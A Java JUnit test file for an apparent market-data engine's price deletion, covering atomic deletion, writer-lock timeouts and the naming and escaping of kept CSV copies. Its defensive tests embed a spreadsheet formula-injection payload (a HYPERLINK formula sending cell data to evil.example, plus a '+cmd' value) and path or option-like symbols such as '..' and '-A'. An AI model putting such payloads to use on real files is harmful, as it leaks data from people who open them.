package org.sextant.engine.ingest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sextant.contract.FailReason;
import org.sextant.engine.SextantException;
import org.sextant.engine.data.PriceRepository;
import org.sextant.engine.store.Store;
import org.sextant.engine.testing.HeldStore;
import org.sextant.engine.testing.TempSextant;

/** A deletion is all or nothing (the store and the kept copies alike), and waits for the store's writer only so long. */
class PriceDeletionTest {
    @TempSextant private Store store;

    /** BOTHX with 30 daily closes and 30 weekly bars. */
    private void bothIntervals(Path dir) throws Exception {
        StringBuilder days = new StringBuilder("Date,Close\n"), weeks = new StringBuilder("Date,Close\n");
        java.time.LocalDate d = java.time.LocalDate.of(2020, 1, 6);
        for (int i = 0; i < 30; i++) {
            days.append(d.plusDays(i % 5 + 7L * (i / 5))).append(',').append(10 + i).append('\n');
            weeks.append(d.plusWeeks(i).plusDays(4)).append(',').append(20 + i).append('\n');
        }
        Path daily = Files.writeString(Files.createDirectories(dir.resolve("d")).resolve("BOTHX.csv"), days);
        Path weekly = Files.writeString(Files.createDirectories(dir.resolve("w")).resolve("BOTHX.csv"), weeks);
        new PriceImporter(store).importFiles(List.of(daily, weekly));
        assertEquals(Map.of("1d", 30L, "1w", 30L), rows());
    }

    @Test
    void aFailureAfterTheFirstIntervalLeavesEveryRowAndNoCopy(@TempDir Path dir) throws Exception {
        bothIntervals(dir);
        Path kept = dir.resolve("kept");
        AtomicInteger moves = new AtomicInteger();
        PriceDeletion failingSecond = new PriceDeletion(store, new PriceRepository(store), kept, Duration.ofSeconds(5), (from, to) -> {
            if (moves.incrementAndGet() == 2) throw new IOException("no space left on device");
            Files.move(from, to);
        }, java.time.Clock.systemUTC());
        SextantException e = assertThrows(SextantException.class, () -> failingSecond.delete("BOTHX", null));
        assertEquals(FailReason.IO_ERROR, e.reason());
        assertTrue(e.getMessage().contains("nothing was deleted"), e.getMessage());
        assertEquals(2, moves.get(), "the daily rows were deleted in the transaction before the bars' copy failed");
        assertEquals(Map.of("1d", 30L, "1w", 30L), rows());
        assertEquals(1, count("SELECT count(*) FROM symbols WHERE symbol = 'BOTHX'"), "its symbols row stays");
        try (var left = Files.list(kept)) {
            assertEquals(List.of(), left.toList(), "the daily rows' copy went with the failed deletion");
        }
        try (var staged = Files.list(store.stagingDir())) {
            assertEquals(List.of(), staged.toList(), "nothing staged is left behind");
        }
    }

    @Test
    void aWriterHeldLongerThanTheWaitIsRefusedAsBusyAndNothingIsDeleted(@TempDir Path dir) throws Exception {
        bothIntervals(dir);
        PriceDeletion deletion = new PriceDeletion(store, new PriceRepository(store), dir.resolve("kept"), Duration.ofMillis(200),
                (from, to) -> Files.move(from, to), java.time.Clock.systemUTC());
        try (HeldStore held = HeldStore.hold(store)) {
            SextantException e = assertThrows(SextantException.class, () -> deletion.delete("BOTHX", "1d"));
            assertEquals(FailReason.JOB_BUSY, e.reason());
            assertEquals("delete_prices waited 200 ms for the store's one writer, which another write (an import, a job's, a backup) held all along; nothing was changed", e.getMessage());
        }
        assertEquals(Map.of("1d", 30L, "1w", 30L), rows());
        assertEquals(30L, deletion.delete("BOTHX", "1d").rowsDeleted(), "once the writer is free it deletes");
    }

    /** EUR/USD and EUR_USD deleted in one millisecond: one file name, two kept files, each with its own rows (attack 15, M1). */
    @Test
    void twoSymbolsOfOneFileNameDeletedAtOneMomentKeepTwoFiles(@TempDir Path dir) throws Exception {
        Path file = Files.writeString(dir.resolve("pairs.csv"), "Symbol,Date,Close\nEUR/USD,2020-01-02,1.12\nEUR/USD,2020-01-03,1.13\n"
                + "EUR_USD,2020-01-02,7\nEUR_USD,2020-01-03,8\n");
        new PriceImporter(store).importFiles(List.of(file));
        java.time.Clock frozen = java.time.Clock.fixed(java.time.Instant.parse("2026-12-05T07:06:01.948Z"), java.time.ZoneOffset.UTC);
        PriceDeletion deletion = new PriceDeletion(store, new PriceRepository(store), dir.resolve("kept"), Duration.ofSeconds(5),
                (from, to) -> Files.move(from, to, java.nio.file.StandardCopyOption.ATOMIC_MOVE), frozen);
        Path slash = Path.of(deletion.delete("EUR/USD", null).deleted().get(0).keptIn());
        Path underscore = Path.of(deletion.delete("EUR_USD", null).deleted().get(0).keptIn());
        assertEquals("EUR_USD.1d.20261205T070601.948Z.csv", slash.getFileName().toString());
        assertEquals("EUR_USD.1d.20261205T070601.948Z.2.csv", underscore.getFileName().toString());
        assertTrue(Files.readString(slash).contains("EUR/USD,2020-01-02"), "the first deletion's rows are still kept");
        assertTrue(Files.readString(underscore).contains("EUR_USD,2020-01-03"));
    }

    @Test
    void aKeptFileNameHoldsNoPathSeparator() {
        assertEquals("EUR_USD.1h.20240101T000000.000Z.csv", PriceDeletion.fileName("EUR/USD", "1h", "20240101T000000.000Z"));
        // symbols stored before a ticker needed a letter (attack 16 L1): neither hidden nor read as an option by `sextant import`
        assertEquals("_...1d.20240101T000000.000Z.csv", PriceDeletion.fileName("..", "1d", "20240101T000000.000Z"));
        assertEquals("_--.1d.20240101T000000.000Z.csv", PriceDeletion.fileName("--", "1d", "20240101T000000.000Z"));
        assertEquals("_-A.1d.20240101T000000.000Z.csv", PriceDeletion.fileName("-A", "1d", "20240101T000000.000Z"));
    }

    /**
     * A name or exchange a spreadsheet would run as a formula (attack 31 F1) is kept with a leading ', and the kept file
     * still imports back to the identical rows and naming.
     */
    @Test
    void aKeptFileOfAFormulaLikeNameOpensAsTextAndImportsBackIdentical(@TempDir Path dir) throws Exception {
        String name = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")";
        Path file = Files.writeString(dir.resolve("evil.csv"), "symbol,date,open,close,volume,name,currency,exchange\n"
                + "EVIL,2024-01-02,1.5,1.5,100,\"" + name.replace("\"", "\"\"") + "\",USD,+cmd\n"
                + "EVIL,2024-01-03,1.25,2.5,,\"" + name.replace("\"", "\"\"") + "\",USD,+cmd\n");
        new PriceImporter(store).importFiles(List.of(file));
        List<String> before = stored("EVIL");
        assertTrue(before.get(0).contains("|" + name + "|USD|+cmd"), before.get(0));
        Path kept = Path.of(new PriceDeletion(store, new PriceRepository(store), dir.resolve("kept")).delete("EVIL", null).deleted().get(0).keptIn());
        String text = Files.readString(kept);
        assertTrue(text.contains(",\"'=HYPERLINK(") && text.contains(",USD,'+cmd"), text);
        assertTrue(!text.contains(",=") && !text.contains(",+") && !text.contains(",@"), "no cell starts as a formula: " + text);
        assertEquals(List.of(), stored("EVIL"));
        new PriceImporter(store).importFiles(List.of(kept));
        assertEquals(before, stored("EVIL"));
    }

    /**
     * Session 46: a symbol stored before tickers could not start with = or - (=A1, -2-3, and -5, which a spreadsheet reads
     * as a number) was kept as '=A1 (or -5 bare), and its kept file was refused by the ticker rule: it now imports back.
     */
    @Test
    void aKeptFileOfASymbolStoredBeforeTheFormulaRuleImportsBackIdentical(@TempDir Path dir) throws Exception {
        for (String old : List.of("=A1", "-2-3", "-5")) {
            store.inTransaction(c -> { // as an earlier release stored it
                try (var p = c.prepareStatement("INSERT INTO prices(symbol, date, open, high, low, close, volume, source) VALUES (?, ?, 1.5, 2.5, 1.25, 2, 100, 'test')")) {
                    for (int day = 2; day <= 4; day++) {
                        p.setString(1, old);
                        p.setObject(2, java.time.LocalDate.of(2024, 1, day));
                        p.addBatch();
                    }
                    p.executeBatch();
                }
                try (var p = c.prepareStatement("INSERT INTO symbols_before_ticker_rule VALUES (?)")) { // as the upgrade (V061) listed it
                    p.setString(1, old);
                    p.executeUpdate();
                }
                return null;
            });
            List<String> before = stored(old);
            assertEquals(3, before.size());
            Path kept = Path.of(new PriceDeletion(store, new PriceRepository(store), dir.resolve("kept")).delete(old, null).deleted().get(0).keptIn());
            String text = Files.readString(kept);
            assertTrue(text.contains("\n'" + old + ",2024-01-02"), "written with the ' a spreadsheet shows as text: " + text);
            assertEquals(List.of(), stored(old));
            new PriceImporter(store).importFiles(List.of(kept));
            assertEquals(before, stored(old), old + " came back");
        }
        // the same symbol without the ' is still refused, naming the column and both ways on
        Path bare = Files.writeString(dir.resolve("bare.csv"), "symbol,date,close\n=A1,2024-01-05,2\n");
        SextantException e = assertThrows(SextantException.class, () -> new PriceImporter(store).importFiles(List.of(bare)));
        assertEquals("symbol", e.field());
        assertTrue(e.getMessage().contains("line 2, column symbol: the symbol '=A1' is not a ticker (it starts with ="), e.getMessage());
        assertTrue(e.fix().contains("without the leading =") && e.fix().contains("written '=A1"), e.fix());
        assertEquals(3, stored("=A1").size());
    }

    /**
     * Session 46 review: the ' that lets a kept file of a symbol stored before the rule import back let any new symbol in
     * ('=NEW, '-7 imported as =NEW, -7). Only the symbols the upgrade listed import so; a new one is refused naming the column.
     */
    @Test
    void aNewSymbolWrittenWithTheQuoteOfAKeptFileIsRefused(@TempDir Path dir) throws Exception {
        for (String fresh : List.of("=NEW", "-7", "=X-Y")) {
            Path file = Files.writeString(dir.resolve("new.csv"), "symbol,date,close\n'" + fresh + ",2024-01-05,2\n");
            SextantException e = assertThrows(SextantException.class, () -> new PriceImporter(store).importFiles(List.of(file)), fresh);
            assertEquals("symbol", e.field());
            assertTrue(e.getMessage().contains("line 2, column symbol: the symbol '" + fresh + "' is not a ticker (it starts with " + fresh.charAt(0)
                    + ", which a spreadsheet runs as a formula; written '" + fresh + " only a symbol stored before this rule imports, and none is stored so)"),
                    e.getMessage());
            assertEquals("write the ticker without the leading " + fresh.charAt(0) + ", e.g. MSFT or ^SPX", e.fix());
            assertEquals(List.of(), stored(fresh));
        }
        Path bars = Files.writeString(dir.resolve("bars.csv"), "time,symbol,close\n2024-03-04T14:00:00Z,'=NEW,2\n2024-03-04T15:00:00Z,'=NEW,2\n");
        SextantException e = assertThrows(SextantException.class, () -> new PriceImporter(store).importFiles(List.of(bars)), "bars alike");
        assertEquals("symbol", e.field());
        assertTrue(e.getMessage().contains("line 2, column symbol: the symbol '=NEW' is not a ticker"), e.getMessage());
        assertEquals("write the ticker without the leading =, e.g. MSFT or ^SPX", e.fix());
    }

    /** Each stored price row of {@code sym} with its name, currency and exchange, as text. */
    private List<String> stored(String sym) {
        return store.read(c -> {
            List<String> out = new java.util.ArrayList<>();
            try (var p = c.prepareStatement("SELECT p.date, p.open, p.high, p.low, p.close, p.adj_close, p.volume, d.name, d.currency, d.exchange "
                    + "FROM prices p LEFT JOIN " + org.sextant.engine.data.SymbolDescription.STORED + " d USING (symbol) WHERE symbol = ? ORDER BY p.date")) {
                p.setString(1, sym);
                try (var r = p.executeQuery()) {
                    while (r.next()) {
                        StringBuilder b = new StringBuilder();
                        for (int i = 1; i <= 10; i++) b.append(i > 1 ? "|" : "").append(r.getString(i));
                        out.add(b.toString());
                    }
                }
            }
            return out;
        });
    }

    private Map<String, Long> rows() {
        return new PriceDeletion(store, new PriceRepository(store), store.stagingDir()).rows("BOTHX");
    }

    private long count(String sql) {
        return store.read(c -> {
            try (var s = c.createStatement(); var r = s.executeQuery(sql)) {
                r.next();
                return r.getLong(1);
            }
        });
    }
}
